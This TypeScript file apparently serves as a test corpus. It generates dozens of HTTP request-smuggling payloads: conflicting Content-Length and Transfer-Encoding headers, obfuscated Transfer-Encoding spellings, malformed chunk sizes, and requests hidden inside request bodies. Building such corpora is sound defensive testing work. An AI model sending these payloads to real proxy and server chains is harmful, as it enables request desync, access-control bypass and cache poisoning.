/** Requests that two servers behind each other may read differently, each with another request hidden in it (S-W1). */

export interface Payload {
  name: string
  /** Bytes as latin1; `hidden` is in it somewhere. */
  bytes: string
  /** The hidden request stands where a second request may stand: whoever serves it has read well. */
  isSecond?: true
}

/** @param target of the outer request; a POST to it may have a body @param hidden a whole request of its own */
export function smugglingPayloads(target: string, hidden: string): Payload[] {
  const start = `POST ${target} HTTP/1.1\r\nHost: localhost\r\n`
  const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`
  const body = '{"a":1}'
  const length = `Content-Length: ${body.length}\r\n`
  const chunked = 'Transfer-Encoding: chunked\r\n'
  /** Read by its length, `hidden` is body; read by its chunks, it is a request. */
  const ended = `0\r\n\r\n${hidden}`
  const byLength = `Content-Length: ${ended.length}\r\n`
  /** `Transfer-Encoding` written so that only some recognise it. */
  const obscured = (name: string, header: string): Payload => ({
    name: `a Transfer-Encoding ${name}`,
    bytes: `${start}${byLength}${header}\r\n${ended}`,
  })
  const inChunks = (name: string, text: string): Payload => ({ name, bytes: `${start}${chunked}\r\n${text}` })
  const withLength = (name: string, value: string): Payload => ({
    name: `a Content-Length ${name}`,
    bytes: `${start}Content-Length: ${value}\r\n\r\n${body}${hidden}`,
  })

  return [
    { name: 'two requests, one after the other', bytes: `${start}${length}\r\n${body}${hidden}`, isSecond: true },
    {
      name: 'two requests, the first in chunks',
      bytes: `${start}${chunked}\r\n${chunk(body)}0\r\n\r\n${hidden}`,
      isSecond: true,
    },

    { name: 'Content-Length, then Transfer-Encoding', bytes: `${start}${byLength}${chunked}\r\n${ended}` },
    { name: 'Transfer-Encoding, then Content-Length', bytes: `${start}${chunked}${byLength}\r\n${ended}` },
    {
      name: 'Transfer-Encoding and a short Content-Length',
      bytes: `${start}Content-Length: 4\r\n${chunked}\r\n${chunk(hidden)}0\r\n\r\n`,
    },
    { name: 'Transfer-Encoding in HTTP/1.0', bytes: `${start.replace('1.1', '1.0')}${byLength}${chunked}\r\n${ended}` },

    obscured('with a space before the colon', 'Transfer-Encoding : chunked\r\n'),
    obscured('with a tab before the colon', 'Transfer-Encoding\t: chunked\r\n'),
    obscured('with an x', 'Transfer-Encoding: xchunked\r\n'),
    obscured('with a vertical tab', 'Transfer-Encoding:\x0bchunked\r\n'),
    obscured('with a form feed after it', 'Transfer-Encoding: chunked\x0c\r\n'),
    obscured('with quotes', 'Transfer-Encoding: "chunked"\r\n'),
    obscured('on a folded line', 'Transfer-Encoding:\r\n chunked\r\n'),
    obscured('hidden in the line before by a bare carriage return', 'X: x\rTransfer-Encoding: chunked\r\n'),
    obscured('hidden in the line before by a bare line feed', 'X: x\nTransfer-Encoding: chunked\r\n'),
    obscured('with a NUL', 'Transfer-Encoding: chunked\0\r\n'),
    obscured('twice, the second identity', `${chunked}Transfer-Encoding: identity\r\n`),
    obscured('twice, the first identity', `Transfer-Encoding: identity\r\n${chunked}`),
    obscured('in a list that ends otherwise', 'Transfer-Encoding: chunked, identity\r\n'),
    obscured('in a list with nothing before', 'Transfer-Encoding: , chunked\r\n'),
    obscured('with an underscore', 'Transfer_Encoding: chunked\r\n'),
    obscured('after a space', ' Transfer-Encoding: chunked\r\n'),
    obscured('with a high byte', 'Transfer-Encoding: chunked\xa0\r\n'),
    { name: 'a Transfer-Encoding of identity alone', bytes: `${start}Transfer-Encoding: identity\r\n\r\n${hidden}` },

    {
      name: 'two Content-Lengths, the longer first',
      bytes: `${start}Content-Length: ${body.length + hidden.length}\r\n${length}\r\n${body}${hidden}`,
    },
    {
      name: 'two Content-Lengths, the shorter first',
      bytes: `${start}${length}Content-Length: ${body.length + hidden.length}\r\n\r\n${body}${hidden}`,
    },
    {
      name: 'a Content-Length with a space before the colon',
      bytes: `${start}Content-Length : ${body.length + hidden.length}\r\n\r\n${body}${hidden}`,
    },
    {
      name: 'a folded Content-Length',
      bytes: `${start}Content-Length:\r\n ${body.length + hidden.length}\r\n\r\n${body}${hidden}`,
    },
    withLength('in a list', `${body.length}, ${body.length + hidden.length}`),
    withLength('with a sign', `+${body.length}`),
    withLength('that is negative', '-1'),
    withLength('in hexadecimal', `0x${body.length.toString(16)}`),
    withLength('beyond 64 bits', `18446744073709551616${body.length}`),
    withLength('with a decimal point', `${body.length}.0`),
    withLength('that is empty', ''),

    inChunks('a chunk size with 0x', `0x7\r\n${body}\r\n${ended}`),
    inChunks('a chunk size with a sign', `+7\r\n${body}\r\n${ended}`),
    inChunks('a negative chunk size', `-7\r\n${body}\r\n${ended}`),
    inChunks('a chunk size beyond 64 bits', `10000000000000007\r\n${body}\r\n${ended}`),
    inChunks('a chunk size with a space before it', ` 7\r\n${body}\r\n${ended}`),
    inChunks('a chunk extension that ends in a bare line feed', `7;x\n${body}\r\n${ended}`),
    inChunks('a chunk extension with a bare carriage return', `7;x\r${body}\r\n${ended}`),
    inChunks('a chunk that ends in a bare line feed', `7\r\n${body}\n${ended}`),
    inChunks('a chunk that is longer than it says', `5\r\n${body}\r\n${ended}`),
    inChunks('a chunk whose end is missing', `7\r\n${body}${ended}`),
    {
      name: 'trailers that name a length',
      bytes: `${start}${chunked}\r\n${chunk(body)}0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
      isSecond: true,
    },
    inChunks('chunk extensions without end', `7;${'x'.repeat(20_000)}\r\n${body}\r\n${ended}`),

    { name: 'bare line feeds throughout', bytes: `${start}${byLength}${chunked}\r\n`.replaceAll('\r\n', '\n') + ended },
    { name: 'a NUL in a name', bytes: `${start}Content\0-Length: 5\r\n${byLength}\r\n${ended}` },
    { name: 'a header without a name', bytes: `${start}: x\r\n${byLength}${chunked}\r\n${ended}` },
    { name: 'two Hosts', bytes: `${start}Host: elsewhere\r\n${byLength}${chunked}\r\n${ended}` },
    { name: 'HTTP/0.9', bytes: `GET ${target}\r\n${hidden}` },
    { name: 'HTTP/2 without asking', bytes: `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}` },
    {
      name: 'a target with a line in it',
      bytes: `POST ${target}\tHTTP/1.1\r\nX: y HTTP/1.1\r\nHost: localhost\r\n${byLength}${chunked}\r\n${ended}`,
    },
    {
      name: 'an absolute target of another host',
      bytes: `POST http://elsewhere.example${target} HTTP/1.1\r\nHost: localhost\r\n${byLength}${chunked}\r\n${ended}`,
    },
    {
      name: 'a GET with a body in chunks and a length',
      bytes: `GET ${target} HTTP/1.1\r\nHost: localhost\r\n${byLength}${chunked}\r\n${ended}`,
    },
    {
      name: 'Connection names Content-Length',
      bytes: `${start}Connection: keep-alive, Content-Length\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    },
    {
      name: 'Connection names Transfer-Encoding',
      bytes: `${start}Connection: keep-alive, Transfer-Encoding\r\n${chunked}\r\n${chunk(hidden)}0\r\n\r\n`,
    },
    {
      name: 'an upgrade that is none',
      bytes: `${start}Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    },
    {
      name: 'Expect, and the body at once',
      bytes: `${start}Expect: 100-continue\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    },
    {
      name: 'Expect, obscured',
      bytes: `${start}Expect: y 100-continue\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    },
  ]
}
